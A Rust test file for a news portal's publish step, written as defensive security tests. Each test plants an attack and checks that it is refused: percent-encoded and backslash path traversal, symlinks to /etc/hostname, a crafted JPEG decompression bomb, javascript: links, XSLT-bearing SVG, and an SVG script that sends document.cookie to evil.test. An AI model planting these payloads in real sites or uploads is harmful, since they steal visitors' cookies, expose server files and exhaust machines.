//! The publish step as a security boundary (issue 31): a CMS export or a
//! content folder it does not control must not make it read outside its
//! folder, write through a link, exhaust the machine, publish a photo's
//! metadata, or leave the live site changed when it refuses. Each test is an
//! attack as an editor's stolen account or a careless plugin would make it.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use common::{camera_jpeg, snapshot, Temp};
use news_portal::core::routes::BasePath;
use news_publish::build::build;
use news_publish::check::{check, Options as CheckOptions, Severity};
use news_publish::photos::{self, PhotoError};
use news_publish::publish::{publish, Options, Refused};
use std::path::{Path, PathBuf};

/// A small site's content: one language, two articles (one with a raster
/// photo `img/news/photo.jpg` that the caller writes), its legal pages.
fn content(root: &Path) -> PathBuf {
    let content = root.join("content");
    let write = |file: &str, text: &str| {
        let path = content.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write(
        "site.toml",
        "default_language = \"en\"\n\n[[languages]]\ncode = \"en\"\nname = \"English\"\nagency = \"The Agency\"\n",
    );
    write(
        "en/news/with-photo.md",
        "+++\nid = \"a\"\ntitle = \"With a photo\"\npublished = \"2024-05-14\"\n\n[photo]\nsrc = \"../../img/news/photo.jpg\"\nalt = \"A photo\"\n+++\nText.\n",
    );
    write(
        "en/news/plain.md",
        "+++\nid = \"b\"\ntitle = \"Plain\"\npublished = \"2024-05-13\"\n+++\nText.\n",
    );
    for page in ["terms", "privacy"] {
        write(
            &format!("en/pages/{page}.md"),
            "+++\ntitle = \"Legal\"\n+++\nText.\n",
        );
    }
    camera_jpeg(&content.join("img/news/photo.jpg"), 640, 480);
    content
}

/// A valid tiny JPEG whose header says `width` × `height`: a decompression
/// bomb of a few hundred bytes.
fn bomb_jpeg(path: &Path, width: u16, height: u16) {
    let mut jpeg = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut jpeg, 50)
        .encode_image(&image::RgbImage::new(8, 8))
        .unwrap();
    let sof = jpeg
        .windows(2)
        .position(|w| w == [0xFF, 0xC0])
        .expect("a baseline frame header");
    jpeg[sof + 5..sof + 7].copy_from_slice(&height.to_be_bytes());
    jpeg[sof + 7..sof + 9].copy_from_slice(&width.to_be_bytes());
    std::fs::write(path, jpeg).unwrap();
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// A built app in `root/site` (the repository's index.html as its shell).
fn app(root: &Path) -> PathBuf {
    let site = root.join("site");
    std::fs::create_dir_all(&site).unwrap();
    let shell = std::fs::read_to_string(common::repo().join("index.html")).unwrap();
    std::fs::write(site.join("index.html"), &shell).unwrap();
    std::fs::write(site.join("404.html"), &shell).unwrap();
    site
}

/// A built app whose `api/` is a CMS's export (built from [`content`]), ready to
/// publish without `--content`.
fn cms_site(root: &Path) -> PathBuf {
    let site = app(root);
    build(&content(root), &site.join("api")).unwrap();
    // A CMS writes its own tree: no variants, the original photo as it came.
    std::fs::remove_dir_all(site.join("api").join(photos::VARIANTS_FOLDER)).unwrap();
    std::fs::remove_file(site.join("api").join(news_publish::build::MARKER)).unwrap();
    for file in ["en/news/with-photo.json", "en/news/page-1.json"] {
        edit(&site.join("api").join(file), |value| {
            for photo in photos_of(value) {
                photo.as_object_mut().unwrap().remove("sources");
            }
        });
    }
    camera_jpeg(&site.join("api/img/news/photo.jpg"), 640, 480);
    site
}

fn photos_of(value: &mut serde_json::Value) -> Vec<&mut serde_json::Value> {
    if value.get("items").is_some() {
        let items = value["items"].as_array_mut().unwrap();
        items
            .iter_mut()
            .filter_map(|item| item.get_mut("photo"))
            .collect()
    } else {
        value.get_mut("photo").into_iter().collect()
    }
}

fn edit(path: &Path, change: impl FnOnce(&mut serde_json::Value)) {
    let mut value: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    change(&mut value);
    std::fs::write(path, serde_json::to_string_pretty(&value).unwrap()).unwrap();
}

fn options(site: &Path, content: Option<PathBuf>, root: &Path) -> Options {
    Options {
        dir: site.to_path_buf(),
        content,
        origin: Some("https://www.example.gov".into()),
        cache: root.join("cache"),
    }
}

/// The folder beside `site` holds nothing the publish left (but its lock).
fn nothing_left_beside(site: &Path) {
    let parent = site.parent().unwrap();
    let left: Vec<String> = std::fs::read_dir(parent)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with(".site.") && !name.ends_with(".publish.lock"))
        .collect();
    assert!(left.is_empty(), "left beside the site: {left:?}");
}

/// Publishes, and expects a refusal saying `expected` with the site as it was.
fn refused_as_it_was(options: &Options, expected: &str) {
    let before = snapshot(&options.dir);
    let why = stopped(publish(options));
    assert!(why.contains(expected), "{why}");
    assert_eq!(snapshot(&options.dir), before, "the site is as it was");
}

fn stopped(result: Result<(), Refused>) -> String {
    match result {
        Err(Refused::Stopped(why)) => why,
        other => panic!("expected a refusal, got {other:?}"),
    }
}

#[test]
fn a_photo_src_that_leaves_the_tree_is_an_error_and_nothing_is_read() {
    let root = Temp::new("publish-escape");
    let site = cms_site(&root.0);
    // A file of the build machine, outside the site, that an attacker wants published.
    camera_jpeg(&root.0.join("secret.jpg"), 64, 48);
    let secret = std::fs::canonicalize(root.0.join("secret.jpg")).unwrap();
    let absolute = format!("/api/{}", secret.to_string_lossy().replace('/', "%2F"));
    edit(&site.join("api/en/news/with-photo.json"), |value| {
        value["photo"]["src"] = "..%2F..%2F..%2F..%2Fsecret.jpg".into();
        value["gallery"] = serde_json::json!([{ "src": absolute, "alt": "x" }]);
    });
    let before = snapshot(&site);

    let report = check(&site.join("api"), &CheckOptions::default()).unwrap();
    let errors: Vec<String> = report
        .findings
        .iter()
        .filter(|f| f.severity == Severity::Error && f.file == "en/news/with-photo.json")
        .map(ToString::to_string)
        .collect();
    for at in ["photo", "gallery[0]"] {
        assert!(
            errors
                .iter()
                .any(|e| e.contains(&format!(": {at}: `src`"))
                    && e.contains("is refused, and nothing is read")),
            "{at} in {errors:#?}"
        );
    }

    let why = stopped(publish(&options(&site, None, &root.0)));
    assert!(why.contains("nothing was changed"), "{why}");
    assert_eq!(snapshot(&site), before, "the site is as it was");
    // The real photo is 480 px wide upright, the secret 48: none of its variants.
    for entry in std::fs::read_dir(root.0.join("cache")).into_iter().flatten() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        assert!(!name.contains("-48."), "{name} made from the secret");
    }
    nothing_left_beside(&site);
}

#[test]
fn links_in_the_export_or_the_content_are_refused_and_never_written_through() {
    let root = Temp::new("publish-links");
    let outside = root.0.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("target.json"), "precious").unwrap();

    // An article that is a link to a file outside the site.
    let site = cms_site(&root.0);
    std::fs::remove_file(site.join("api/en/news/plain.json")).unwrap();
    std::os::unix::fs::symlink(outside.join("target.json"), site.join("api/en/news/plain.json")).unwrap();
    let before = snapshot(&site);
    let why = stopped(publish(&options(&site, None, &root.0)));
    assert!(
        why.contains("symbolic link") && why.contains("api/en/news/plain.json"),
        "{why}"
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("target.json")).unwrap(),
        "precious"
    );
    assert_eq!(snapshot(&site), before);

    // The variants' folder as a link to another folder.
    std::fs::remove_file(site.join("api/en/news/plain.json")).unwrap();
    std::fs::write(
        site.join("api/en/news/plain.json"),
        before["api/en/news/with-photo.json"].clone(),
    )
    .unwrap();
    std::os::unix::fs::symlink(&outside, site.join("api/img/v")).unwrap();
    stopped(publish(&options(&site, None, &root.0)));
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        1,
        "nothing written into the linked folder"
    );
    let refused = check(&site.join("api"), &CheckOptions::default()).unwrap_err();
    assert!(refused.contains("(img/v: a symbolic link)"), "{refused}");

    // A content folder with a link to a file of the machine.
    let content = content(&root.0.join("c"));
    std::os::unix::fs::symlink("/etc/hostname", content.join("img/host.txt")).unwrap();
    let out = root.0.join("built");
    let errors = build(&content, &out).expect_err("refused");
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].to_string().starts_with("img/host.txt: a symbolic link"),
        "{}",
        errors[0]
    );
    assert!(!out.exists());
    nothing_left_beside(&site);
}

#[test]
fn a_decompression_bomb_is_an_error_naming_the_file_before_anything_is_decoded() {
    let root = Temp::new("publish-bomb");
    let bomb = root.0.join("bomb.jpg");
    bomb_jpeg(&bomb, 65500, 65500);
    assert!(std::fs::metadata(&bomb).unwrap().len() < 1000);
    match photos::variants(&bomb, &root.0.join("cache")) {
        Err(error @ PhotoError::TooLarge(_)) => {
            assert_eq!(
                error.to_string(),
                "it is 65500 × 65500 pixels; the limit is 50 megapixels"
            )
        }
        other => panic!("{other:?}"),
    }
    bomb_jpeg(&bomb, 30000, 30000);
    assert!(matches!(
        photos::variants(&bomb, &root.0.join("cache")),
        Err(PhotoError::TooLarge(_))
    ));

    // In an export: the publish stops and names the document and the photo.
    let site = cms_site(&root.0);
    bomb_jpeg(&site.join("api/img/news/photo.jpg"), 30000, 30000);
    refused_as_it_was(&options(&site, None, &root.0), "photo(s) cannot be published");
}

#[test]
fn originals_are_published_without_their_metadata_but_upright() {
    let root = Temp::new("publish-exif");
    // From content files.
    let site = app(&root.0);
    let content = content(&root.0);
    publish(&options(&site, Some(content.clone()), &root.0)).unwrap();
    let published = std::fs::read(site.join("api/img/news/photo.jpg")).unwrap();
    assert!(contains(
        &std::fs::read(content.join("img/news/photo.jpg")).unwrap(),
        b"GPS"
    ));
    assert!(
        !contains(&published, b"GPS"),
        "the content's original keeps no GPS"
    );
    let upright = |bytes: &[u8]| {
        use image::ImageDecoder;
        image::ImageReader::new(std::io::Cursor::new(bytes))
            .with_guessed_format()
            .unwrap()
            .into_decoder()
            .unwrap()
            .orientation()
            .unwrap()
    };
    assert_eq!(upright(&published), image::metadata::Orientation::Rotate90);

    // From a CMS's export; and a second publish changes nothing more.
    let root = Temp::new("publish-exif-cms");
    let site = cms_site(&root.0);
    publish(&options(&site, None, &root.0)).unwrap();
    let published = std::fs::read(site.join("api/img/news/photo.jpg")).unwrap();
    assert!(
        !contains(&published, b"GPS"),
        "the export's original keeps no GPS"
    );
    assert_eq!(upright(&published), image::metadata::Orientation::Rotate90);
    let first = snapshot(&site);
    publish(&options(&site, None, &root.0)).unwrap();
    assert_eq!(
        snapshot(&site),
        first,
        "a second publish of the same export changes nothing"
    );
    nothing_left_beside(&site);
}

#[test]
fn a_refused_publish_leaves_the_site_byte_for_byte() {
    let root = Temp::new("publish-refused");
    let site = app(&root.0);
    let content = content(&root.0);
    publish(&options(&site, Some(content.clone()), &root.0)).unwrap();
    assert!(
        site.join("en/news/plain.html").is_file(),
        "the first publish prerendered"
    );
    let before = snapshot(&site);

    // Content with an error (build-api stops).
    std::fs::write(content.join("en/news/plain.md"), "no front matter\n").unwrap();
    let why = stopped(publish(&options(&site, Some(content.clone()), &root.0)));
    assert!(
        why.contains("error(s) in the content; nothing was changed in"),
        "{why}"
    );
    assert_eq!(snapshot(&site), before);

    // An export with an error check-api finds (a listed article without its
    // file), and a photo whose metadata the step would have removed.
    let cms = Temp::new("publish-refused-cms");
    let site = cms_site(&cms.0);
    std::fs::remove_file(site.join("api/en/news/plain.json")).unwrap();
    let before = snapshot(&site);
    let why = stopped(publish(&options(&site, None, &cms.0)));
    assert!(why.contains("the API tree has errors"), "{why}");
    assert_eq!(
        snapshot(&site),
        before,
        "not even the photo's metadata was touched"
    );
    assert!(contains(
        &std::fs::read(site.join("api/img/news/photo.jpg")).unwrap(),
        b"GPS"
    ));
    nothing_left_beside(&site);
}

#[test]
fn two_publishes_of_one_folder_at_once_take_turns() {
    let root = Temp::new("publish-concurrent");
    let site = app(&root.0);
    let content = content(&root.0);
    let options = options(&site, Some(content), &root.0);
    publish(&options).unwrap();
    let expected = snapshot(&site);
    let results: Vec<Result<(), Refused>> = std::thread::scope(|scope| {
        let runs: Vec<_> = (0..3).map(|_| scope.spawn(|| publish(&options))).collect();
        runs.into_iter().map(|run| run.join().unwrap()).collect()
    });
    for result in results {
        result.unwrap();
    }
    assert_eq!(
        snapshot(&site).keys().collect::<Vec<_>>(),
        expected.keys().collect::<Vec<_>>(),
        "every file there, none twice"
    );
    assert_eq!(snapshot(&site), expected);
    nothing_left_beside(&site);
}

#[test]
fn build_api_replaces_only_a_folder_it_wrote() {
    let root = Temp::new("build-foreign-out");
    let content = content(&root.0);
    let out = root.0.join("out");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(out.join("site.json"), "{}").unwrap();
    std::fs::write(out.join("precious.txt"), "keep me").unwrap();
    let errors = build(&content, &out).expect_err("refused");
    let message = errors[0].to_string();
    assert!(message.contains("was not written by build-api"), "{message}");
    assert_eq!(
        message.matches(&*out.to_string_lossy()).count(),
        1,
        "the path once: {message}"
    );
    assert_eq!(
        std::fs::read_to_string(out.join("precious.txt")).unwrap(),
        "keep me"
    );
    // Its own output it replaces.
    std::fs::remove_dir_all(&out).unwrap();
    build(&content, &out).unwrap();
    build(&content, &out).unwrap();
    assert!(out.join(news_publish::build::MARKER).is_file());
}

#[test]
fn what_is_refused_where_its_file_and_line_are_known() {
    let root = Temp::new("build-smaller");
    let content = content(&root.0);
    let article = |title: &str, body: &str| {
        format!("+++\nid = \"{title}\"\ntitle = \"{title}\"\npublished = \"2024-01-01\"\n+++\n{body}\n")
    };
    let write = |file: &str, text: &str| std::fs::write(content.join(file), text).unwrap();
    write(
        "en/news/script-link.md",
        &article(
            "s",
            "Text.\n\nA [link](javascript:alert(1)) and ![x](JaVaScRiPt:x).",
        ),
    );
    write(
        "en/news/comment.md",
        &article("c", "Text.\n\n<!-- hidden --!> shown <script>x</script> -->"),
    );
    write("en/news/.hidden.md", &article("h", "Text."));
    write("en/news/CON.md", &article("con", "Text."));
    write("en/news/Plain.md", &article("twin", "Text."));
    write("en/news/cafe\u{301}.md", &article("nfd", "Text."));
    write("en/news/caf\u{e9}.md", &article("nfc", "Text."));
    let errors: Vec<String> = build(&content, &root.0.join("out"))
        .expect_err("refused")
        .iter()
        .map(ToString::to_string)
        .collect();
    let has = |start: &str, part: &str| {
        assert!(
            errors.iter().any(|e| e.starts_with(start) && e.contains(part)),
            "{start} … {part} in {errors:#?}"
        )
    };
    has("en/news/script-link.md:8: a link the app would change", "");
    has("en/news/comment.md:8: a comment ended by `--!>`", "");
    has("en/news/.hidden.md: its name is the article's slug", "hidden");
    has("en/news/CON.md: its name is the article's slug", "device name");
    has(
        "en/news/plain.md: its slug differs from en/news/Plain.md's",
        "case or Unicode",
    );
    has(
        "en/news/caf\u{e9}.md: its slug differs from en/news/cafe\u{301}.md's",
        "case or Unicode",
    );

    // A photo that is not what its name says, or cut short, in an export.
    let cms = Temp::new("publish-fake-photo");
    let site = cms_site(&cms.0);
    std::fs::write(site.join("api/img/news/photo.jpg"), "<html>not a photo</html>").unwrap();
    let report = check(&site.join("api"), &CheckOptions::default()).unwrap();
    assert!(
        report.findings.iter().any(|f| f.severity == Severity::Error
            && f.message.contains("img/news/photo.jpg")
            && f.message.contains("readers see a broken photo")),
        "{:#?}",
        report.findings
    );
    let whole = std::fs::read(cms.0.join("content/img/news/photo.jpg")).unwrap();
    std::fs::write(site.join("api/img/news/photo.jpg"), &whole[..whole.len() / 2]).unwrap();
    let report = check(&site.join("api"), &CheckOptions::default()).unwrap();
    assert!(
        report.findings.iter().any(|f| f.severity == Severity::Error
            && f.message
                == "img/news/photo.jpg: cannot read it: it is not a well-formed JPEG: it is cut short: it has no end: readers see a broken photo"),
        "{:#?}",
        report.findings
    );
    let why = stopped(publish(&options(&site, None, &cms.0)));
    assert!(why.contains("photo(s) cannot be published"), "{why}");
}

proptest::proptest! {
    /// Whatever a document's `src` says, the file it names is inside the
    /// tree, or there is none (the property the fuzz target `tree_file` tries
    /// on far more inputs).
    #[test]
    fn any_src_names_a_file_inside_the_tree_or_none(src in "(\\.\\.|%2[eEfF]|%5[cC]|%00|/|\\\\|[a-z]|\\.){0,24}") {
        let base = BasePath::new("/portal/");
        let tree = news_publish::tree::tree_url(&base);
        let dir = Path::new("/srv/site/api");
        let document = format!("{tree}en/news/a.json");
        if let Some(absolute) = news_portal::ssr::resolve(&src, &document) {
            if let Ok((_, path)) = news_publish::tree::tree_file(dir, &tree, &absolute) {
                proptest::prop_assert!(path.starts_with(dir));
                proptest::prop_assert!(path.components().skip(dir.components().count()).all(|c| matches!(c, std::path::Component::Normal(_))), "{}", path.display());
            }
        }
    }
}

/// Not in the issue: an SVG "photo" with a script is harmless in `<img>`, but
/// opened at its own address it runs as the agency's site (its cookies, its
/// portal). The content, the export and check-api all refuse it.
#[test]
fn an_svg_that_would_run_as_the_site_is_refused() {
    let root = Temp::new("publish-svg");
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><script>fetch("https://evil.test/?"+document.cookie)</script></svg>"#;
    let content = content(&root.0);
    std::fs::write(content.join("img/news/chart.svg"), svg).unwrap();
    let errors: Vec<String> = build(&content, &root.0.join("out"))
        .expect_err("refused")
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert!(
        errors[0].starts_with("img/news/chart.svg: it holds a `<script>`")
            && errors[0].ends_with("opened at its own address, it would run as the site; remove it"),
        "{errors:?}"
    );

    let cms = Temp::new("publish-svg-cms");
    let site = cms_site(&cms.0);
    std::fs::write(site.join("api/img/news/chart.svg"), svg).unwrap();
    edit(&site.join("api/en/news/plain.json"), |value| {
        value["photo"] = serde_json::json!({ "src": "../../img/news/chart.svg", "alt": "A chart" });
    });
    // A page, and a script in a namespace, in the variants' folder.
    std::fs::write(site.join("api/img/news/note.html"), "<p>hi</p>").unwrap();
    std::fs::create_dir_all(site.join("api/img/v")).unwrap();
    std::fs::write(
        site.join("api/img/v/x.svg"),
        "<svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>x</s:script></svg>",
    )
    .unwrap();
    let report = check(&site.join("api"), &CheckOptions::default()).unwrap();
    for (file, why) in [
        ("img/news/chart.svg", "it holds a `<script>`"),
        (
            "img/news/note.html",
            "a .html file: browsers would run it as a page of the site",
        ),
        ("img/v/x.svg", "it holds a `<script>`"),
    ] {
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.severity == Severity::Error && f.file == file && f.message.starts_with(why)),
            "{file}: {:#?}",
            report.findings
        );
    }
    // Referenced or not, it is published: the publish refuses it either way.
    edit(&site.join("api/en/news/plain.json"), |value| {
        value.as_object_mut().unwrap().remove("photo");
    });
    refused_as_it_was(&options(&site, None, &cms.0), "the API tree has errors");
}

/// From the red-team pass: what the first round of fixes did not cover.
#[test]
fn second_round_tall_photos_pipes_data_api_and_percent_names() {
    // A very tall infographic: variants only at the widths WebP can hold, no panic.
    let root = Temp::new("publish-tall");
    let tall = root.0.join("tall.png");
    image::GrayImage::from_pixel(1000, 20000, image::Luma([200]))
        .save(&tall)
        .unwrap();
    let made = photos::variants(&tall, &root.0.join("cache")).unwrap();
    let widths: Vec<u32> = made.files.iter().map(|v| v.width).collect();
    assert_eq!(widths, [480, 480, 680, 680], "{widths:?}");
    image::GrayImage::from_pixel(1, 40_000, image::Luma([9]))
        .save(&tall)
        .unwrap();
    assert!(matches!(
        photos::variants(&tall, &root.0.join("cache")),
        Err(PhotoError::TooLarge(_))
    ));

    // A named pipe in the export: refused, not waited on.
    let site = cms_site(&root.0);
    let pipe = std::ffi::CString::new(site.join("api/img/news/pipe.svg").to_str().unwrap()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(pipe.as_ptr(), 0o644) }, 0);
    let why = stopped(publish(&options(&site, None, &root.0)));
    assert!(why.contains("api/img/news/pipe.svg: a special file"), "{why}");
    std::fs::remove_file(site.join("api/img/news/pipe.svg")).unwrap();

    // data-api naming a folder outside DIR: refused, and that folder kept.
    let victim = root.0.join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    std::fs::write(victim.join("keep.txt"), "keep").unwrap();
    let shell = std::fs::read_to_string(site.join("index.html")).unwrap();
    let edited = shell.replace(
        r#"data-api="api/""#,
        &format!(r#"data-api=".//{}/""#, victim.display()),
    );
    assert_ne!(shell, edited);
    std::fs::write(site.join("index.html"), edited).unwrap();
    let why = stopped(publish(&options(
        &site,
        Some(content(&root.0.join("c"))),
        &root.0,
    )));
    assert!(why.contains("data-api points outside the app"), "{why}");
    assert_eq!(std::fs::read_to_string(victim.join("keep.txt")).unwrap(), "keep");

    // A content photo in a folder named `%2e%2e`: readers would load `..`.
    let content = content(&root.0.join("d"));
    std::fs::create_dir_all(content.join("img/%2e%2e")).unwrap();
    std::fs::copy(
        content.join("img/news/photo.jpg"),
        content.join("img/%2e%2e/p.jpg"),
    )
    .unwrap();
    let article = std::fs::read_to_string(content.join("en/news/with-photo.md")).unwrap();
    std::fs::write(
        content.join("en/news/with-photo.md"),
        article.replace("../../img/news/photo.jpg", "../../img/%2e%2e/p.jpg"),
    )
    .unwrap();
    let errors = build(&content, &root.0.join("out")).expect_err("refused");
    assert!(errors[0].to_string().contains("has a `%`"), "{errors:?}");

    // The cache is never inside the content, and the tree's variants are copies of it.
    let cms = Temp::new("publish-cache");
    let site = cms_site(&cms.0);
    publish(&options(&site, None, &cms.0)).unwrap();
    for entry in std::fs::read_dir(site.join("api/img/v")).unwrap() {
        use std::os::unix::fs::MetadataExt;
        assert_eq!(
            entry.unwrap().metadata().unwrap().nlink(),
            1,
            "a copy, not a link into the cache"
        );
    }
}

/// The second red-team pass: names with `\`, pages in XML and XSLT, a JPEG
/// named `.json`, a cache planted in the content.
#[test]
fn third_round_backslash_names_stylesheets_disguised_photos_and_planted_caches() {
    let root = Temp::new("publish-backslash");
    let content = content(&root.0);
    let outside = root.0.join("pwned");
    std::fs::write(content.join("img/..\\..\\..\\pwned"), "owned").unwrap();
    let errors = build(&content, &root.0.join("out")).expect_err("refused");
    assert!(errors[0].to_string().contains("a name with a `\\`"), "{errors:?}");
    assert!(!outside.exists(), "nothing written outside");
    std::fs::remove_file(content.join("img/..\\..\\..\\pwned")).unwrap();

    // An SVG with an XSLT stylesheet; an XML page.
    std::fs::write(
        content.join("img/news/chart.svg"),
        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='t.xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    )
    .unwrap();
    std::fs::write(
        content.join("img/news/page.xml"),
        "<html xmlns='http://www.w3.org/1999/xhtml'/>",
    )
    .unwrap();
    let errors: Vec<String> = build(&content, &root.0.join("out"))
        .expect_err("refused")
        .iter()
        .map(ToString::to_string)
        .collect();
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("img/news/chart.svg: it holds an `<?xml-stylesheet?>`")),
        "{errors:?}"
    );
    assert!(
        errors
            .iter()
            .any(|e| e.starts_with("img/news/page.xml: a .xml file")),
        "{errors:?}"
    );

    // A cache inside the content folder is refused.
    let errors = news_publish::build::build_with(&content, &root.0.join("out"), &content.join("img"))
        .expect_err("refused");
    assert!(
        errors[0].to_string().contains("is inside the content folder"),
        "{errors:?}"
    );

    // A camera JPEG named `.json` in an export is published without its GPS.
    let cms = Temp::new("publish-disguised");
    let site = cms_site(&cms.0);
    camera_jpeg(&site.join("api/img/news/p.json"), 64, 48);
    publish(&options(&site, None, &cms.0)).unwrap();
    assert!(!contains(
        &std::fs::read(site.join("api/img/news/p.json")).unwrap(),
        b"GPS"
    ));
}
